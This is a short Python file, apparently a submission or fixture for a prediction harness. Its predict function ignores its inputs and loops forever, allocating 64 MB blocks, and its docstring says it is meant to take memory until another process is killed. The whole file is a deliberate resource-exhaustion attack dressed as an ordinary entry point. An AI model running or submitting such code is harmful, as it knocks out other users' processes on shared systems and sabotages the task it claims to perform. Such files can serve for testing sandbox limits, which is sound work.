"""Take memory until someone else's process is killed for it."""


def predict(train, cases, charges, model):
    held = []
    while True:
        held.append(bytearray(b"x" * (64 << 20)))
